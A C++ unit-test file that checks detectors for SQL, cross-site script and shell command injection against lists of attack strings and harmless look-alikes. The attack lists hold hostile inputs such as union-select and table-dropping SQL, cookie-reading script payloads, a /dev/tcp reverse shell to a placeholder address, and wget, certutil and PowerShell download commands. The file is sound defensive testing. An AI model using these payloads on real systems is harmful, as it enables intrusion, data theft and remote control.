// SQL, script and commands in what a client sent: each kind with near twins that people send.
#include <gtest/gtest.h>

#include <string>

#include "core/web/command_check.h"
#include "core/web/script_check.h"
#include "core/web/sql_check.h"

namespace yushi {
namespace {

TEST(SqlInjection, ContinuesAStatement) {
  for (auto text : {"1 union select 1,2",
                    "1 union select a from\xef\xbf\xbd"
                    "b",
                    "-1' union all select null,null#",
                    "x') union(select(1),2)-- ",
                    "1 or 1=1",
                    "' or '1'='1",
                    "1' and 1=2",
                    "\" or \"\"=\"",
                    "') or ('a'='a",
                    "1 and sleep(5)",
                    "1'||sleep(5)||'",
                    "admin'-- ",
                    "admin' #",
                    "a'/*",
                    "1; drop table users",
                    "1;insert into t(a) values (1)",
                    "1';exec xp_cmdshell 'dir'--",
                    "1 order by 9-- ",
                    "x' group by 1 having 1=1-- ",
                    "(select 1 from information_schema.tables)",
                    "1 and (select count(*) from users)>0",
                    "1 procedure analyse(1)",
                    "1' into outfile '/tmp/x",
                    "extractvalue(1,concat(0x5c,version()))",
                    "1 and ascii(substr(user(),1,1))>64",
                    "char(65)+char(66)",
                    "1 waitfor delay '0:0:5'",
                    "waitfor delay '0:0:5'",
                    "1' rlike (select 1)",
                    "1 and 1 like 1",
                    "@@version",
                    "x' or true-- ",
                    "1/**/union/**/select/**/null",
                    "1 /*!50000union*/ /*!select*/ 1",
                    "1'/*!50000union*//*!50000select*/1,2,3-- ",
                    "5 && 1=1",
                    "case when (1=1) then 1 else 2 end",
                    "'a'::text",
                    "1 or exists(select 1)"})
    EXPECT_TRUE(is_sql_injection(text)) << text;
}

TEST(SqlInjection, IsNotWhatPeopleWrite) {
  for (auto text : {"",
                    "o'brien",
                    "rock'n'roll and blues",
                    "european union selects a head",
                    "select a gift from the shop",
                    "select",
                    "order by phone",
                    "cats and dogs",
                    "\"cats\" and \"dogs\"",
                    "2 or 3 pieces",
                    "5' 11\" tall",
                    "where is it",
                    "it's 5 or 6",
                    "drop table lamp",
                    "sleep (well)",
                    "a=b and c",
                    "'--all' is an option",
                    "\"#chapter\"",
                    "c++ -- a book",
                    "insert into the slot",
                    "update me on it",
                    "version() of a song",
                    "like new",
                    "1 and 2",
                    "call count() and sum() first",
                    "union of x; select one"})
    EXPECT_FALSE(is_sql_injection(text)) << text;
}

TEST(ScriptInjection, RunsInAPage) {
  for (auto text : {"<script>x</script>",
                    "<script src=//a>",
                    "</textarea><b>",
                    "<img src=x onerror=a()>",
                    "<svg/onload=a>",
                    "\" onmouseover=a ",
                    "' onfocus = a autofocus",
                    "javascript:alert(1)",
                    "java\tscript:a()",
                    "<x onclick=a>",
                    "<scr<script>ipt>",
                    "<a href=javascript:x>",
                    "<a href=' java\tscript:x'>",
                    "<div style=\"x:expression(a)\">",
                    "<img src=x onerror=a>",
                    "<table background=javascript:a>",
                    "</title><p>",
                    "<meta http-equiv=refresh>",
                    "alert(1)",
                    "\";alert`1`//",
                    "document.cookie",
                    "[].map.call`${eval}`",
                    "<iframe",
                    "<!--#exec cmd=x",
                    "x\" style=\"y:expression(a())",
                    "data:text/html,<b>",
                    "x' ononloadload=y",
                    "<x:script xmlns:x='y'>",
                    "top.location=1",
                    "eval(atob('x'))",
                    "<!entity a system 'b'>"})
    EXPECT_TRUE(is_script_injection(text)) << text;
}

TEST(ScriptInjection, IsNotWhatPeopleWrite) {
  for (auto text : {"",
                    "a < b",
                    "i <3 you",
                    "<7",
                    "on time = good",
                    "only=1",
                    "javascript: the good parts",
                    "an alert (red)",
                    "functions (of a)",
                    "open (door)",
                    "the `call` of duty",
                    "confirm (yes)",
                    "once = twice",
                    "<order id='7'>",
                    "document the cookie",
                    "<b>bold</b> <i>words</i>",
                    "<p>hello<br/>you</p>",
                    "<a href=\"https://example.com/x\">here</a>",
                    "<img src=\"/logo.png\" alt=\"on top = good\">",
                    "<div class='x' style='color: red'>",
                    "<!-- a comment -->",
                    "<h1>title</h1>",
                    "<table><tr><td>1</td></tr></table>",
                    "<font color=red>",
                    "<!doctype html>",
                    "<form action=/send><input name=a>"})
    EXPECT_FALSE(is_script_injection(text)) << text;
}

TEST(CommandInjection, RunsInAShell) {
  for (auto text : {"x;cat /etc/x",
                    "x|id",
                    "x&&whoami",
                    "x||ls",
                    "x\nwget http://a",
                    "$(id)",
                    "`id`",
                    "x`curl a`",
                    "whoami",
                    "ls -la",
                    "/bin/ls",
                    "cat${ifs}/x",
                    "c'a't /x",
                    "w\\get http://a",
                    "x;wh$@oami",
                    "/b?n/cat",
                    "/etc/pass[w]d",
                    "{cat,/etc/x}",
                    "x;$z cat y",
                    "x&ping -n 3 192.0.2.1",
                    "cmd.exe /c dir",
                    "powershell -enc aa",
                    "x|powershell iex",
                    "x;certutil -urlcache -f http://a b",
                    "p^owershell",
                    "x > >(tee /a)",
                    "x\r\nset-cookie: a",
                    "x\nrcpt to:<a>",
                    "<(cat x)",
                    "$((1+1))",
                    "${path#a}",
                    "bash -i >& /dev/tcp/192.0.2.1/9",
                    "sudo -u a id",
                    "time sh -c id",
                    "python3 -c 'x'"})
    EXPECT_TRUE(is_command_injection(text)) << text;
}

TEST(CommandInjection, IsNotWhatPeopleWrite) {
  for (auto text : {"",
                    "time flies",
                    "a; time flies",
                    "salt & cut onions",
                    "find x for y",
                    "sort it & more",
                    "the cat sat",
                    "id",
                    "ls",
                    "echo",
                    "more or less",
                    "a\nat the store",
                    "i'd go",
                    "who|what",
                    "page[1]",
                    "$5 each; $6 all",
                    "$name",
                    "${name}",
                    "$('#id')",
                    "a `name` here",
                    "r&b",
                    "at&t",
                    "ping me",
                    "use `wget` for it",
                    "image/png;base64,aaaa",
                    "1 > 2",
                    "{a, b}",
                    "c:\\temp",
                    "date: 2026",
                    "we'll find it",
                    "help|about"})
    EXPECT_FALSE(is_command_injection(text)) << text;
}

}  // namespace
}  // namespace yushi
